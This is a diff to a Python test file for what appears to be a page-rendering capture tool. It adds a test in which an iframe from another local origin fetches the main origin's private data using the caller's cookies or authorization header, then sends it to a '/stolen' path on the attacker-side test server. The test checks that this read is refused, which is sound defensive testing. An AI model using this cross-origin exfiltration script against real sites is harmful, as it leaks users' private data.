@@ -31,6 +31,7 @@ class Pages:
     and `cookies` the field Cookie of each path."""
 
     def __init__(self, pages):
+        self.pages = pages
         self.requests = []
         self.cookies = {}
         self.released = threading.Event()
@@ -51,7 +52,7 @@ class Pages:
                 self.rfile.read(int(self.headers["Content-Length"] or 0))
                 if path == "/endless":
                     origin.released.wait(60)
-                status, type, text, *fields = pages.get(path, (404, "text/plain", "missing"))
+                status, type, text, *fields = origin.pages.get(path, (404, "text/plain", "missing"))
                 body = text.encode()
                 self.send_response(status)
                 self.send_header("Content-Type", type)
@@ -194,6 +195,27 @@ def test_the_caller_s_cookies_reach_the_origin_and_no_script(alone):
     assert "login=secret" in origin.cookies["/"] and "login=secret" in origin.cookies["/data"]
     assert "secret" not in text and "[]" in text
     assert "secret" not in str(page_answer)
+
+
+@pytest.mark.parametrize("options", [{"cookies": ["login=secret"]}, {"headers": {"Authorization": "Basic secret"}}])
+def test_a_frame_of_another_origin_reads_no_answer_for_the_caller(alone, options):
+    """Although the origin allows all origins to read what it sends to an anonymous visitor."""
+    private = (200, "application/json", '"private"', ("Access-Control-Allow-Origin", "*"))
+    pages = {"/data": private}
+    origin, other = Pages(pages), Pages({})
+    pages["/"] = page(f"<p>mine</p><iframe src='{other.url('/frame')}'></iframe><script>fetch('/data')</script>")
+    other.pages["/frame"] = page(f"""<script>
+        fetch("{origin.url('/data')}").then(r => r.text()).then(t => fetch("/stolen?" + t), () => fetch("/refused"))
+        </script>""")
+    server = rendering(origin, "--allow-origin", other.authority)
+    try:
+        Capture(server, origin.url("/"), mode="rendered", **options)
+        assert ("GET", "/refused") in other.requests
+        assert ("GET", "/stolen") not in other.requests
+    finally:
+        server.stop()
+        origin.close()
+        other.close()
 
 
 def test_cookies_that_a_page_sets_stay_in_its_capture(alone):
